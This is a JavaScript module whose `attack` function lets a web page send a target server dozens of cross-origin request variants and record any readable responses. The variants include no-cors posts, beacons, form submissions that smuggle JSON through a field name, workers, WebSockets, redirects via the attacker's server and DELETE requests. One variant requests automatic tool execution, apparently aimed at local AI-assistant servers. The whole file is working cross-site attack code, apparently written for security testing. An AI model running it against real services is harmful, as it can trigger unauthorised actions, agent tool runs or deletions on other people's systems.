// The requests that a page can make a browser send. `attack` runs in the page and may use only what it is given.

/**
 * Sends every request there is to `target`, and gives what the page could read of each answer: `[{name, read}]`, where
 * `read` is empty if that was nothing. Each request carries its name as `?attempt=PAGE:NAME`. `posts` are `{path, body}`,
 * `gets` are paths; `site` is the attacker's own server.
 */
export async function attack({ page, target, site, posts, gets, deletes }) {
	const attempts = [];
	const urlOf = (name, path) =>
		`${target}${path}${path.includes("?") ? "&" : "?"}attempt=${encodeURIComponent(`${page}:${name}`)}`;
	/** Notes an attempt; what it gives is what was read. */
	const attempt = (name, path, run) => {
		const label = `${name} ${path}`;
		const outcome = (async () => run(urlOf(label, path)))().catch(() => "");
		// Some have no end that a page could see.
		const given = new Promise((resolve) => setTimeout(resolve, 10_000, ""));
		attempts.push(Promise.race([outcome, given]).then((read) => ({ name: label, read: read || "" })));
	};
	const fetched = async (url, options) => {
		const response = await fetch(url, options);
		return (await response.text()) || [...response.headers].map((pair) => pair.join(": ")).join("\n");
	};
	const redirected = (url) => `${site}/redirect?to=${encodeURIComponent(url)}`;
	const json = (body, more) => ({
		method: "POST",
		body: JSON.stringify(body),
		headers: { "content-type": "application/json" },
		...more,
	});
	const plain = (body, more) => ({ method: "POST", mode: "no-cors", body, ...more });
	/** Resolves when an element has loaded, or failed to; gives what can be read of a frame. */
	const loaded = (element) =>
		new Promise((resolve) => {
			element.onload = () => resolve(element.contentDocument?.body?.textContent ?? "");
			element.onerror = () => resolve("");
			document.body.append(element);
		});
	const element = (tag, properties) => loaded(Object.assign(document.createElement(tag), properties));
	let frames = 0;
	/** Submits a form to a frame of its own. */
	const submit = (url, enctype, fields, method = "post") => {
		frames += 1;
		const frame = Object.assign(document.createElement("iframe"), { name: `frame${frames}` });
		const form = document.createElement("form");
		Object.assign(form, { action: url, method, enctype, target: frame.name });
		for (const [name, value] of fields)
			form.append(Object.assign(document.createElement("input"), { name, value }));
		document.body.append(form, frame);
		return new Promise((resolve) => {
			// The first load is that of the empty frame.
			frame.onload = () => {
				frame.onload = () => resolve(frame.contentDocument?.body?.textContent ?? "");
				form.submit();
			};
			frame.src = "about:blank?";
		});
	};
	/** `name=value` of a form that is JSON when it is read as text. */
	const asForm = (body) => [[`${JSON.stringify(body).slice(0, -1)},"x":"`, '"}']];
	const beacon = (url, data) => navigator.sendBeacon(url, data) && "";
	const socket = (url) =>
		new Promise((resolve) => {
			const ws = new WebSocket(url.replace(/^http/, "ws"));
			ws.onopen = () => resolve("open");
			ws.onerror = () => resolve("");
		});
	const inWorker = async (url, options) => {
		const code = `onmessage = async ({ data: { url, options } }) =>
			postMessage(await fetch(url, options).then((response) => response.text(), () => ""));`;
		const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
		worker.postMessage({ url, options });
		const read = await new Promise((resolve) => {
			worker.onmessage = ({ data }) => resolve(data);
			worker.onerror = () => resolve("");
		});
		worker.terminate();
		return read;
	};
	const registered =
		"serviceWorker" in navigator && self.origin === site
			? navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready)
			: undefined;
	const inServiceWorker = async (url, options) => {
		const { active } = await registered;
		const { port1, port2 } = new MessageChannel();
		active.postMessage({ url, options }, [port2]);
		return new Promise((resolve) => {
			port1.onmessage = ({ data }) => resolve(data);
		});
	};
	const viaXhr = (url, type, body) =>
		new Promise((resolve) => {
			const request = new XMLHttpRequest();
			request.open("POST", url);
			if (type) request.setRequestHeader("content-type", type);
			request.onloadend = () => resolve(request.responseText);
			request.send(body);
		});
	const events = (url) =>
		new Promise((resolve) => {
			const source = new EventSource(url);
			source.onmessage = ({ data }) => resolve(data);
			source.onerror = () => {
				source.close();
				resolve("");
			};
		});

	for (const { path, body } of posts) {
		const text = JSON.stringify(body);
		const blob = (type) => new Blob([text], { type });
		const formData = new FormData();
		formData.append(...asForm(body)[0]);
		attempt("json", path, (url) => fetched(url, json(body)));
		attempt("json, streamed", path, (url) => fetched(url, json({ ...body, stream: true })));
		attempt("json, auto mode", path, (url) =>
			fetched(url, json({ ...body, use_vscode_tools: true, tool_execution: "auto" })),
		);
		attempt("json, keepalive", path, (url) => fetched(url, json(body, { keepalive: true })));
		attempt("json, no referrer", path, (url) =>
			fetched(url, json(body, { referrerPolicy: "no-referrer", credentials: "include" })),
		);
		attempt("json, redirected", path, (url) => fetched(redirected(url), json(body)));
		attempt("json, worker", path, (url) => inWorker(url, json(body)));
		if (registered) attempt("json, service worker", path, (url) => inServiceWorker(url, json(body)));
		attempt("json, beacon", path, (url) => beacon(url, blob("application/json")));
		attempt("no-cors", path, (url) => fetched(url, plain(text)));
		attempt("no-cors, json", path, (url) =>
			fetched(url, plain(text, { headers: { "content-type": "application/json" } })),
		);
		attempt("no-cors, no type", path, (url) => fetched(url, plain(blob(""))));
		attempt("no-cors, keepalive", path, (url) => fetched(url, plain(text, { keepalive: true })));
		attempt("no-cors, form", path, (url) => fetched(url, plain(formData)));
		attempt("no-cors, parameters", path, (url) => fetched(url, plain(new URLSearchParams({ text }))));
		attempt("no-cors, redirected", path, (url) => fetched(redirected(url), plain(text)));
		attempt("no-cors, no referrer", path, (url) =>
			fetched(url, plain(text, { referrerPolicy: "no-referrer", credentials: "include" })),
		);
		attempt("simple cors", path, (url) => fetched(url, { method: "POST", body: text }));
		attempt("xhr", path, (url) => viaXhr(url, "application/json", text));
		attempt("xhr, no type", path, (url) => viaXhr(url, undefined, blob("")));
		attempt("beacon", path, (url) => beacon(url, text));
		attempt("beacon, no type", path, (url) => beacon(url, blob("")));
		attempt("beacon, form", path, (url) => beacon(url, formData));
		attempt("form, text", path, (url) => submit(url, "text/plain", asForm(body)));
		attempt("form, urlencoded", path, (url) =>
			submit(url, "application/x-www-form-urlencoded", asForm(body)),
		);
		attempt("form, multipart", path, (url) => submit(url, "multipart/form-data", asForm(body)));
		attempt("form, redirected", path, (url) => submit(redirected(url), "text/plain", asForm(body)));
		attempt("ping", path, (url) => {
			const link = Object.assign(document.createElement("a"), { ping: url, href: "#here" });
			document.body.append(link);
			link.click();
		});
		attempt("report", path, (url) =>
			element("iframe", { src: `${site}/report?to=${encodeURIComponent(url)}` }),
		);
		attempt("socket", path, socket);
		attempt("get", path, (url) => fetched(url));
	}
	for (const path of gets) {
		attempt("fetch", path, (url) => fetched(url));
		attempt("fetch, no-cors", path, (url) => fetched(url, { mode: "no-cors" }));
		attempt("fetch, no referrer", path, (url) => fetched(url, { referrerPolicy: "no-referrer" }));
		attempt("fetch, head", path, (url) => fetched(url, { method: "HEAD" }));
		attempt("fetch, redirected", path, (url) => fetched(redirected(url)));
		attempt("fetch, like a program", path, (url) =>
			fetched(url, { headers: { "user-agent": "curl/8.0", "accept-language": "", accept: "*/*" } }),
		);
		attempt("fetch, worker", path, (url) => inWorker(url, {}));
		if (registered) attempt("fetch, service worker", path, (url) => inServiceWorker(url, {}));
		attempt("events", path, events);
		attempt("socket", path, socket);
		attempt("image", path, (url) => element("img", { src: url }));
		attempt("image, no referrer", path, (url) => element("img", { src: url, referrerPolicy: "no-referrer" }));
		attempt("script", path, (url) => element("script", { src: url }));
		attempt("module", path, (url) => element("script", { src: url, type: "module" }));
		attempt("style", path, (url) => element("link", { rel: "stylesheet", href: url }));
		attempt("frame", path, (url) => element("iframe", { src: url }));
		attempt("form, get", path, (url) => submit(url, "text/plain", [...new URL(url).searchParams], "get"));
	}
	for (const path of deletes) attempt("delete", path, (url) => fetched(url, { method: "DELETE" }));
	return Promise.all(attempts);
}
